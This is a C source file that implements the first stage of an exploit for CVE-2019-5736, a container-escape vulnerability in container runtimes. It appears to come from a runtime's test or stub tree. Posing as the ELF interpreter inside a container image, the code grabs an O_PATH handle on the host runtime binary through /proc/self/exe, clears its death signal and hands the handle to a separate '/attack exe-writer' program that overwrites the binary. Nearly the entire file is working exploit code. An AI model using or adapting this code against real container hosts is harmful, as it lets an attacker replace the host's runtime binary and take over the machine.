/* CVE-2019-5736's first half, as an ELF interpreter: an image ships this as
 * /lib64/ld-linux-x86-64.so.2 and runs /proc/self/exe. If the runtime lets
 * that resolve to its own (dynamic) binary, the kernel loads the binary and
 * runs this in its place, in a process whose /proc/self/exe is the host's
 * runtime. It then holds the binary with an O_PATH fd (as fd 9), clears its
 * death signal with a gid change, and hands the fd to `/attack exe-writer 9`,
 * which writes into the binary once the runtime no longer runs it.
 * Freestanding: a static libc would read the main program's headers from
 * the auxiliary vector and crash. */
#include "runtime/stub/freestanding.h"

DXC_START (evil_main);

static void
say (const char *s)
{
  long n = 0;
  while (s[n])
    n++;
  sys3 (SYS_write, 1, (long) s, n);
}

void evil_main (long *sp) __attribute__ ((noreturn, used));

void
evil_main (long *sp)
{
  char **envp = (char **) (sp + 1) + sp[0] + 1;
  char *writer[] = { "attack", "exe-writer", "9", 0 };
  char *sleeper[] = { "sleep", "15", 0 };
  long fd = sys3 (SYS_open, (long) "/proc/self/exe", 010000000 /* O_PATH */, 0);
  if (fd < 0)
    {
      say ("ATTACK: no handle on /proc/self/exe\n");
      sys3 (SYS_exit_group, 1, 0, 0);
    }
  sys3 (SYS_dup2, fd, 9, 0);
  say ("ATTACK: holding the runtime binary\n");
  /* A credential change clears PR_SET_PDEATHSIG. */
  sys3 (SYS_setresgid, 1, 1, 1);
  if (sys3 (SYS_fork, 0, 0, 0) == 0)
    {
      /* An exec drops the mapping of the binary (ETXTBSY otherwise). */
      sys3 (SYS_execve, (long) "/attack", (long) writer, (long) envp);
      sys3 (SYS_exit_group, 1, 0, 0);
    }
  sys3 (SYS_execve, (long) "/bin/sleep", (long) sleeper, (long) envp);
  sys3 (SYS_exit_group, 1, 0, 0);
  for (;;)
    ;
}
